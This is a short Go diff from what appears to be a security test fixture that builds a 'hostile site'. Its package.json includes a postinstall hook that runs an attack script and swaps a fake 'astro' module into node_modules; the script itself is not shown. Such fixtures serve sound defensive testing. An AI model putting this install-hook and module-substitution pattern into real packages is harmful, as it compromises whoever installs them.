@@ -60,7 +60,7 @@ func hostileSite() map[string]string {
 	return map[string]string{
 		"attack.sh": attackScript,
 		"package.json": `{"name":"hostile","version":"1.0.0","private":true,
-  "scripts":{"postinstall":"sh ./attack.sh install && mkdir -p node_modules/astro && cp fake-astro.mjs node_modules/astro/index.mjs && cp fake-astro.json node_modules/astro/package.json "}}
+  "scripts":{"postinstall":"sh ./attack.sh install && mkdir -p node_modules/astro && cp fake-astro.mjs node_modules/astro/index.mjs && cp fake-astro.json node_modules/astro/package.json"}}
 `,
 		// The worker's launcher starts the dev server with astro's dev():
 		// this one attacks, then serves.
